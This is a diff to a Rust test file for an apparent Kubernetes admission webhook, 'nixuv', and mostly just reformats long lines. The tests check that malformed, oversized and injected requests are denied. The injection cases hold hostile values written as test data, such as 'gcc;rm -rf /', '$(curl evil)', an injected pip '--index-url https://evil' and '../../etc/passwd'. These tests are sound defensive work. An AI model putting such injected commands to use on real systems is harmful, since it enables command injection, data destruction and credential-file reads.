@@ -25,10 +25,18 @@ fn rss_kib(pid: u32) -> u64 {
 /// (name, body, expected HTTP status, for 200: expected `allowed`, and a needle in the message).
 fn cases() -> Vec<(String, Vec<u8>, u16, Option<bool>, &'static str)> {
     let mut v: Vec<(String, Vec<u8>, u16, Option<bool>, &'static str)> = Vec::new();
-    let mut add = |name: &str, body: Vec<u8>, status: u16, allowed: Option<bool>, needle: &'static str| v.push((name.to_string(), body, status, allowed, needle));
+    let mut add = |name: &str, body: Vec<u8>, status: u16, allowed: Option<bool>, needle: &'static str| {
+        v.push((name.to_string(), body, status, allowed, needle))
+    };
     let j = |v: &Value| serde_json::to_vec(v).unwrap();
     // Structure.
-    add("deeply nested array", format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes(), 400, None, "not JSON");
+    add(
+        "deeply nested array",
+        format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes(),
+        400,
+        None,
+        "not JSON",
+    );
     let nested_obj = format!(
         r#"{{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{{"uid":"u","operation":"CREATE","kind":{{"group":"","version":"v1","kind":"Pod"}},"resource":{{"group":"","version":"v1","resource":"pods"}},"object":{}{}}}}}"#,
         "{\"a\":".repeat(50_000),
@@ -36,11 +44,37 @@ fn cases() -> Vec<(String, Vec<u8>, u16, Option<bool>, &'static str)> {
     );
     // The object is skipped as raw JSON and never opted in: allowed, unchanged, no crash.
     add("deeply nested object", nested_obj.into_bytes(), 200, Some(true), "");
-    add("invalid UTF-8", b"{\"apiVersion\":\"admission.k8s.io/v1\",\"kind\":\"AdmissionReview\xff\xfe\"}".to_vec(), 400, None, "not JSON");
-    add("missing request", j(&json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview"})), 400, None, "no request");
-    add("missing uid", j(&review_with(|r| { r["request"].as_object_mut().unwrap().remove("uid"); })), 400, None, "no uid");
+    add(
+        "invalid UTF-8",
+        b"{\"apiVersion\":\"admission.k8s.io/v1\",\"kind\":\"AdmissionReview\xff\xfe\"}".to_vec(),
+        400,
+        None,
+        "not JSON",
+    );
+    add(
+        "missing request",
+        j(&json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview"})),
+        400,
+        None,
+        "no request",
+    );
+    add(
+        "missing uid",
+        j(&review_with(|r| {
+            r["request"].as_object_mut().unwrap().remove("uid");
+        })),
+        400,
+        None,
+        "no uid",
+    );
     add("uid not a string", j(&review_with(|r| r["request"]["uid"] = json!(12))), 400, None, "not JSON");
-    add("request not an object", j(&json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": [1]})), 400, None, "not JSON");
+    add(
+        "request not an object",
+        j(&json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": [1]})),
+        400,
+        None,
+        "not JSON",
+    );
     add("duplicate keys", br#"{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","kind":"AdmissionReview","request":{"uid":"u"}}"#.to_vec(), 400, None, "duplicate field");
     add("empty body", Vec::new(), 400, None, "not JSON");
     // Wrong types in every field nixuv reads: a denial naming the object.
@@ -53,8 +87,12 @@ fn cases() -> Vec<(String, Vec<u8>, u16, Option<bool>, &'static str)> {
         ("containers an object", |r| r["request"]["object"]["spec"]["containers"] = json!({"name": "a"})),
         ("container name a number", |r| r["request"]["object"]["spec"]["containers"][0]["name"] = json!(7)),
         ("env a string", |r| r["request"]["object"]["spec"]["containers"][0]["env"] = json!("PATH=/x")),
-        ("env value an object", |r| r["request"]["object"]["spec"]["containers"][0]["env"] = json!([{"name": "PATH", "value": {}}])),
-        ("volumeMounts wrong", |r| r["request"]["object"]["spec"]["containers"][0]["volumeMounts"] = json!([{"name": 1}])),
+        ("env value an object", |r| {
+            r["request"]["object"]["spec"]["containers"][0]["env"] = json!([{"name": "PATH", "value": {}}])
+        }),
+        ("volumeMounts wrong", |r| {
+            r["request"]["object"]["spec"]["containers"][0]["volumeMounts"] = json!([{"name": 1}])
+        }),
         ("volumes wrong", |r| r["request"]["object"]["spec"]["volumes"] = json!([{"name": ["x"]}])),
         ("initContainers wrong", |r| r["request"]["object"]["spec"]["initContainers"] = json!(true)),
     ];
@@ -63,31 +101,117 @@ fn cases() -> Vec<(String, Vec<u8>, u16, Option<bool>, &'static str)> {
     }
     // Dependency injection attempts: denied, naming the item.
     let ann = |k: &str, v: &str| j(&review_with(|r| r["request"]["object"]["metadata"]["annotations"] = json!({k: v})));
-    add("shell metacharacters in a system dep", ann("nixuv.io/system-deps", "gcc;rm -rf /"), 200, Some(false), "not a nixpkgs attribute path");
+    add(
+        "shell metacharacters in a system dep",
+        ann("nixuv.io/system-deps", "gcc;rm -rf /"),
+        200,
+        Some(false),
+        "not a nixpkgs attribute path",
+    );
     add("command substitution", ann("nixuv.io/system-deps", "$(curl evil)"), 200, Some(false), "$(curl");
-    add("backticks in a python dep", ann("nixuv.io/python-deps", "`reboot`"), 200, Some(false), "not a PEP 508 requirement");
-    add("newline injection", ann("nixuv.io/python-deps", "numpy\n--index-url https://evil"), 200, Some(false), "pip options are not allowed");
+    add(
+        "backticks in a python dep",
+        ann("nixuv.io/python-deps", "`reboot`"),
+        200,
+        Some(false),
+        "not a PEP 508 requirement",
+    );
+    add(
+        "newline injection",
+        ann("nixuv.io/python-deps", "numpy\n--index-url https://evil"),
+        200,
+        Some(false),
+        "pip options are not allowed",
+    );
     add("NUL in a python dep", ann("nixuv.io/python-deps", "numpy\u{0}==1"), 200, Some(false), "control characters");
-    add("NUL in a system dep", ann("nixuv.io/system-deps", "gcc\u{0}"), 200, Some(false), "not a nixpkgs attribute path");
-    add("path traversal, system", ann("nixuv.io/system-deps", "../../etc/passwd"), 200, Some(false), "not a nixpkgs attribute path");
+    add(
+        "NUL in a system dep",
+        ann("nixuv.io/system-deps", "gcc\u{0}"),
+        200,
+        Some(false),
+        "not a nixpkgs attribute path",
+    );
+    add(
+        "path traversal, system",
+        ann("nixuv.io/system-deps", "../../etc/passwd"),
+        200,
+        Some(false),
+        "not a nixpkgs attribute path",
+    );
     add("path traversal, python", ann("nixuv.io/python-deps", "../../../etc"), 200, Some(false), "local paths");
     add("file URL", ann("nixuv.io/python-deps", "x @ file:///etc/passwd"), 200, Some(false), "URL");
-    add("path traversal, python version", ann("nixuv.io/python", "../3.12"), 200, Some(false), "not a Python 3 version");
-    add("shell in containers annotation", ann("nixuv.io/containers", "app;id"), 200, Some(false), "is not a container of this Pod");
-    add("flake injection", ann("nixuv.io/system-deps", "nixpkgs#evil"), 200, Some(false), "not a nixpkgs attribute path");
+    add(
+        "path traversal, python version",
+        ann("nixuv.io/python", "../3.12"),
+        200,
+        Some(false),
+        "not a Python 3 version",
+    );
+    add(
+        "shell in containers annotation",
+        ann("nixuv.io/containers", "app;id"),
+        200,
+        Some(false),
+        "is not a container of this Pod",
+    );
+    add(
+        "flake injection",
+        ann("nixuv.io/system-deps", "nixpkgs#evil"),
+        200,
+        Some(false),
+        "not a nixpkgs attribute path",
+    );
     // Size.
     // The bare Pod declares 2 deps in labels; 62 more make maxDeps (64) exactly.
     let many: String = (0..62).map(|i| format!("p{i}")).collect::<Vec<_>>().join(",");
     add("at maxDeps", ann("nixuv.io/python-deps", &many), 200, Some(true), "");
     let over: String = (0..63).map(|i| format!("p{i}")).collect::<Vec<_>>().join(",");
-    add("one over maxDeps", ann("nixuv.io/python-deps", &over), 200, Some(false), "declares 65 dependencies, more than maxDeps (64)");
-    add("a 2 MB dep", ann("nixuv.io/python-deps", &"a".repeat(2_000_000)), 200, Some(false), "longer than 256 characters");
-    add("a 2 MB system dep", ann("nixuv.io/system-deps", &"a".repeat(2_000_000)), 200, Some(false), "longer than 256 characters");
-    add("a huge label value", j(&review_with(|r| r["request"]["object"]["metadata"]["labels"]["x"] = json!("y".repeat(3_000_000)))), 200, Some(true), "");
-    let containers: Vec<Value> = (0..5000).map(|i| json!({"name": format!("c{i}"), "image": "x", "env": [{"name": "A", "value": "b"}]})).collect();
-    add("5000 containers", j(&review_with(|r| r["request"]["object"]["spec"]["containers"] = json!(containers))), 200, Some(true), "");
+    add(
+        "one over maxDeps",
+        ann("nixuv.io/python-deps", &over),
+        200,
+        Some(false),
+        "declares 65 dependencies, more than maxDeps (64)",
+    );
+    add(
+        "a 2 MB dep",
+        ann("nixuv.io/python-deps", &"a".repeat(2_000_000)),
+        200,
+        Some(false),
+        "longer than 256 characters",
+    );
+    add(
+        "a 2 MB system dep",
+        ann("nixuv.io/system-deps", &"a".repeat(2_000_000)),
+        200,
+        Some(false),
+        "longer than 256 characters",
+    );
+    add(
+        "a huge label value",
+        j(&review_with(|r| r["request"]["object"]["metadata"]["labels"]["x"] = json!("y".repeat(3_000_000)))),
+        200,
+        Some(true),
+        "",
+    );
+    let containers: Vec<Value> = (0..5000)
+        .map(|i| json!({"name": format!("c{i}"), "image": "x", "env": [{"name": "A", "value": "b"}]}))
+        .collect();
+    add(
+        "5000 containers",
+        j(&review_with(|r| r["request"]["object"]["spec"]["containers"] = json!(containers))),
+        200,
+        Some(true),
+        "",
+    );
     let arr: Vec<Value> = (0..200_000).map(|_| json!({})).collect();
-    add("a 200k-element array nixuv skips", j(&review_with(|r| r["request"]["object"]["spec"]["tolerations"] = json!(arr))), 200, Some(true), "");
+    add(
+        "a 200k-element array nixuv skips",
+        j(&review_with(|r| r["request"]["object"]["spec"]["tolerations"] = json!(arr))),
+        200,
+        Some(true),
+        "",
+    );
     v
 }
 
@@ -98,7 +222,13 @@ async fn hostile_bodies_get_a_4xx_or_a_denial() {
     let rss_before = rss_kib(server.child.id());
     let mut tried = 0;
     for (name, body, status, allowed, needle) in cases() {
-        let resp = client.post(server.url("/mutate")).header("content-type", "application/json").body(body).send().await.unwrap();
+        let resp = client
+            .post(server.url("/mutate"))
+            .header("content-type", "application/json")
+            .body(body)
+            .send()
+            .await
+            .unwrap();
         assert_eq!(resp.status().as_u16(), status, "{name}");
         let v: Value = resp.json().await.unwrap_or_else(|e| panic!("{name}: not JSON: {e}"));
         match allowed {
@@ -123,7 +253,14 @@ async fn hostile_bodies_get_a_4xx_or_a_denial() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn stalled_handshakes_and_slow_clients_do_not_starve_good_requests() {
-    let server = Server::builder().arg("--handshake-timeout").arg("2s").arg("--header-read-timeout").arg("2s").arg("--request-timeout").arg("2s").start();
+    let server = Server::builder()
+        .arg("--handshake-timeout")
+        .arg("2s")
+        .arg("--header-read-timeout")
+        .arg("2s")
+        .arg("--request-timeout")
+        .arg("2s")
+        .start();
     // 300 connections that never start TLS, and 100 that complete TLS but dribble headers.
     let mut idle = Vec::new();
     for _ in 0..300 {
@@ -147,9 +284,25 @@ async fn stalled_handshakes_and_slow_clients_do_not_starve_good_requests() {
     // The stalled connections are closed by the timeouts.
     tokio::time::sleep(Duration::from_secs(3)).await;
     let m = server.h1().get(server.url("/metrics")).send().await.unwrap().text().await.unwrap();
-    let failures: u64 = m.lines().find(|l| l.starts_with("nixuv_tls_handshake_failures_total")).unwrap().split_whitespace().last().unwrap().parse().unwrap();
+    let failures: u64 = m
+        .lines()
+        .find(|l| l.starts_with("nixuv_tls_handshake_failures_total"))
+        .unwrap()
+        .split_whitespace()
+        .last()
+        .unwrap()
+        .parse()
+        .unwrap();
     assert!(failures >= 300, "handshake timeouts counted: {failures}");
-    let open: i64 = m.lines().find(|l| l.starts_with("nixuv_connections_open")).unwrap().split_whitespace().last().unwrap().parse().unwrap();
+    let open: i64 = m
+        .lines()
+        .find(|l| l.starts_with("nixuv_connections_open"))
+        .unwrap()
+        .split_whitespace()
+        .last()
+        .unwrap()
+        .parse()
+        .unwrap();
     assert!(open <= 5, "slow clients were closed by the header timeout: {open} open");
     drop(idle);
     drop(slow);
@@ -178,7 +331,15 @@ async fn connection_limit_rejects_the_excess_and_recovers() {
         tokio::time::sleep(Duration::from_millis(100)).await;
     }
     let text = server.h1().get(server.url("/metrics")).send().await.unwrap().text().await.unwrap();
-    let rejected: u64 = text.lines().find(|l| l.starts_with("nixuv_connections_rejected_total")).unwrap().split_whitespace().last().unwrap().parse().unwrap();
+    let rejected: u64 = text
+        .lines()
+        .find(|l| l.starts_with("nixuv_connections_rejected_total"))
+        .unwrap()
+        .split_whitespace()
+        .last()
+        .unwrap()
+        .parse()
+        .unwrap();
     assert!(rejected >= 20, "{rejected}");
 }
 
